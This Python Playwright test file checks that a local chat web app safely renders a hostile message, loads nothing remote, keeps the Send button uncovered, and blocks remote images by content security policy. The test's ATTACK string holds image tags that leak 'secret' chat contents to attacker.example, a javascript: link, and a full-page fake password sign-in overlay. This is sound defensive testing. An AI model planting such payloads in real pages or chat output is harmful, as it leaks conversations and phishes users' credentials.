"""Real browser: a message with a remote Markdown image, a raw <img> (also one hidden between escaped backticks) and a
full-page overlay form loads nothing remote (Playwright's request log) and covers nothing (Send is still what sits
under its own centre); and the page's own policy blocks a remote image even if one reached the page."""

from __future__ import annotations

from urllib.parse import urlparse

import pytest

from tests.browser.test_browser_app import (
    CHROMIUM,
    CHROMIUM_ARGS,
    SHOTS,
    STREAM_TIMEOUT_MS,
    App,
    open_page,
    send,
    set_max_tokens,
)

# A real browser against a real app started twice: minutes on a busy 2-core machine, not the default 120 s.
pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]
sync_api = pytest.importorskip("playwright.sync_api")

ATTACK = (
    "<img src=//attacker.example/t.png> Look: ![s](http://attacker.example/p.png?secret=chat-contents) "
    "<img src=http://attacker.example/i.png?secret=2> "
    "\\`<img src=http://attacker.example/b.png?secret=4>\\` "
    "[click me](javascript:document.title='pwned') "
    '<div style="position:fixed;inset:0;z-index:99999;background:white">'
    '<form action="http://attacker.example/login"><input type=password placeholder="Sign in again"></form></div>'
)


def test_a_message_loads_nothing_remote_and_covers_nothing(tiny_model_dir, tmp_path):
    SHOTS.mkdir(parents=True, exist_ok=True)
    seen: list[str] = []
    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        app = App(tmp_path / "data", tiny_model_dir("mixtral"), tmp_path / "net.log")
        try:
            page = open_page(browser, app.url, seen)
            set_max_tokens(page, 3)
            send(page, ATTACK)
            page.locator("#chatbot").get_by_text("tok/s").first.wait_for(timeout=STREAM_TIMEOUT_MS)
            page.reload()  # the newest chat opens on load: what is stored must be as harmless as what streamed
            page.get_by_role("tab", name="Chat").wait_for()
            page.locator("#chatbot").get_by_text("Look:").first.wait_for(timeout=30_000)
            page.wait_for_timeout(500)
            page.screenshot(path=SHOTS / "chat-hostile-message.png", full_page=True)
            chat = page.locator("#chatbot")
            assert chat.locator("img[src*='attacker']").count() == 0
            assert chat.locator("form, input[type=password]").count() == 0
            assert page.locator("#conv-list").get_by_text("<img src=//attacker").count() == 1  # the title: text
            assert page.locator("#conv-list img").count() == 0
            hrefs = chat.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href') || '')")
            assert not [h for h in hrefs if h.strip().lower().startswith("javascript")], hrefs
            assert "position:fixed" in chat.inner_text().replace(" ", "")  # shown as text, harmlessly
            box = page.locator("#send").bounding_box()
            hit = page.evaluate(
                "([x, y]) => document.elementFromPoint(x, y)?.closest('#send') !== null",
                [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2],
            )
            assert hit, "something covers the Send button"
            shown = list(seen)  # what showing the messages fetched; the probe below asks for a remote image itself
            # Defence in depth: an image that reached the page anyway (a renderer bug) is blocked by the policy.
            blocked = page.evaluate(
                """() => new Promise(done => {
                    document.addEventListener('securitypolicyviolation',
                        e => done(e.blockedURI + ' ' + e.effectiveDirective), {once: true});
                    const i = new Image(); i.src = 'http://attacker.example/csp.png?secret=3';
                    document.body.appendChild(i);
                    setTimeout(() => done('not blocked'), 5000);
                })"""
            )
            assert blocked.startswith("http://attacker.example/csp.png") and "img-src" in blocked, blocked
            page.close()
        finally:
            app.stop()
        browser.close()
    remote = [u for u in shown if u.startswith("http") and urlparse(u).hostname not in ("127.0.0.1", "localhost")]
    assert remote == [], f"the page fetched {remote}"
